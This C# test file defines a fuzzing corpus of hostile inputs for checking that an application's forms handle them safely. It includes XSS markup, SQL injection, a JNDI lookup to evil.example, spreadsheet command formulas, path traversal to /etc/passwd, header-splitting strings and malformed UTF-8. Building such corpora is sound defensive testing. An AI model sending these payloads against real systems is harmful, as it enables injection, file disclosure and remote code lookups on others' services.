using System.Text;

namespace Soudan.Tests.Security;

/// <summary>
/// Known nasty input, after the "Big List of Naughty Strings" and OWASP's cheat sheets: very long
/// text, invalid UTF-8 and lone surrogates, bidirectional overrides, zero-width joiners, markup and
/// script, SQL fragments, spreadsheet formulas, paths, header breaks and numbers that are not.
/// Each is kept as the bytes a client would send, so that what cannot be a .NET string (invalid
/// UTF-8) is in the corpus too.
/// </summary>
public static class NastyStrings
{
    /// <summary>Markup that would run if a page echoed it unencoded; no page may contain it verbatim.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "</textarea><script>alert(1)</script>",
    ];

    public static IReadOnlyList<string> Text { get; } =
    [
        "",
        " \t\r\n ",
        new string('A', 100_000),
        new string('語', 20_000),
        "e" + new string('\u0301', 2_000),                 // a combining-mark storm
        "\0", "a\0b", "\u0007\u001b[31mred\u001b[0m",
        "\uD800", "\uDFFF", "a\uDC00b", "\uFFFE\uFFFF", "\uFEFFbom",
        "\u202Egpj.exe", "abc\u202Ddef\u202C", "\u2066\u2067\u2068\u2069\u200F\u200E",
        "\u200B\u200C\u200D\u2060", "👨‍👩‍👧‍👦", "🇳🇵", "𠮷野家", "ﾃｽﾄ\u3000㍻",
        .. Markup,
        "javascript:alert(1)", "<a href=\"https://evil.example/\">click</a>", "&lt;b&gt;", "<!--", "]]>",
        "{{7*7}}", "${7*7}", "@(1+1)", "{0}{99}", "%s%s%s%n", "${jndi:ldap://evil.example/a}",
        "'; DROP TABLE \"Intakes\"; --", "' OR '1'='1", "1; SELECT pg_sleep(10)--", "' UNION SELECT * FROM \"AspNetUsers\"--", "\\", "%", "_%'",
        "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(1)", "=HYPERLINK(\"https://evil.example\",\"x\")", "\t=1", "\r=1", "＝1+1",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "CON", "NUL:",
        "a\r\nSet-Cookie: owned=1", "\r\n\r\n<html>",
        "NaN", "Infinity", "-0", "1e309", "99999999999999999999999", "-1", "0x10", "１２３", "٣", "1,000", "1.5.5",
        "ｓｃｒｉｐｔ", "\u212B", "ﬁ", "İ", "ß",
        "a@b@c", "\"@evil.example",
    ];

    /// <summary>Bytes no UTF-8 decoder may accept: a lone continuation, overlong forms, a surrogate, past U+10FFFF.</summary>
    public static IReadOnlyList<byte[]> InvalidUtf8 { get; } =
    [
        [0xC3, 0x28], [0xFF, 0xFE], [0x80], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0x61, 0xF0, 0x9F],
    ];

    /// <summary>Every payload as the bytes a client sends: the text in UTF-8 (lone surrogates as the three bytes a careless encoder writes), then the invalid sequences.</summary>
    public static IEnumerable<byte[]> All() => Text.Select(Loose).Concat(InvalidUtf8);

    /// <summary>A few of each kind, for the fuzzing of every field of every form, where the whole corpus would take too long.</summary>
    public static IEnumerable<byte[]> Sample() =>
        new[]
        {
            new string('A', 100_000), "e" + new string('\u0301', 2_000), "\0", "a\0b", "\uD800", "a\uDC00b", "\u202Egpj.exe", "\u200B\u200C\u200D\u2060", "𠮷野家",
            "'; DROP TABLE \"Intakes\"; --", "=cmd|' /C calc'!A0", "a\r\nSet-Cookie: owned=1", "1e309", "-1", "99999999999999999999999", "１２３", "{0}{99}",
        }.Concat(Markup).Select(Loose).Concat(InvalidUtf8.Take(3));

    /// <summary>UTF-8, except that a lone surrogate is written as its own three bytes (WTF-8), which no server should accept as text.</summary>
    public static byte[] Loose(string text)
    {
        var bytes = new List<byte>(text.Length);
        for (var i = 0; i < text.Length; i++)
        {
            if (char.IsHighSurrogate(text[i]) && i + 1 < text.Length && char.IsLowSurrogate(text[i + 1]))
            {
                bytes.AddRange(Encoding.UTF8.GetBytes(text.Substring(i++, 2)));
            }
            else if (char.IsSurrogate(text[i]))
            {
                int c = text[i];
                bytes.AddRange([(byte)(0xE0 | (c >> 12)), (byte)(0x80 | ((c >> 6) & 0x3F)), (byte)(0x80 | (c & 0x3F))]);
            }
            else
            {
                bytes.AddRange(Encoding.UTF8.GetBytes(text[i].ToString()));
            }
        }

        return [.. bytes];
    }

    /// <summary>Percent-encodes every byte that is not unreserved, as a form or a query string carries it.</summary>
    public static string PercentEncoded(byte[] bytes)
    {
        var text = new StringBuilder(bytes.Length * 3);
        foreach (var b in bytes)
        {
            if (b is (>= (byte)'a' and <= (byte)'z') or (>= (byte)'A' and <= (byte)'Z') or (>= (byte)'0' and <= (byte)'9') or (byte)'-' or (byte)'.' or (byte)'_' or (byte)'~')
            {
                text.Append((char)b);
            }
            else
            {
                text.Append('%').Append(b.ToString("X2", System.Globalization.CultureInfo.InvariantCulture));
            }
        }

        return text.ToString();
    }

    /// <summary>A JSON string literal of the bytes: valid UTF-8 escaped as JSON asks, anything else spliced in raw, as a hostile client would.</summary>
    public static byte[] JsonLiteral(byte[] bytes)
    {
        string decoded;
        try
        {
            decoded = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes);
        }
        catch (DecoderFallbackException)
        {
            return [(byte)'"', .. bytes, (byte)'"'];
        }

        var json = new StringBuilder("\"");
        foreach (var c in decoded)
        {
            json.Append(c switch
            {
                '"' => "\\\"",
                '\\' => "\\\\",
                < ' ' => "\\u" + ((int)c).ToString("x4", System.Globalization.CultureInfo.InvariantCulture),
                _ => c.ToString(),
            });
        }

        return Encoding.UTF8.GetBytes(json.Append('"').ToString());
    }
}
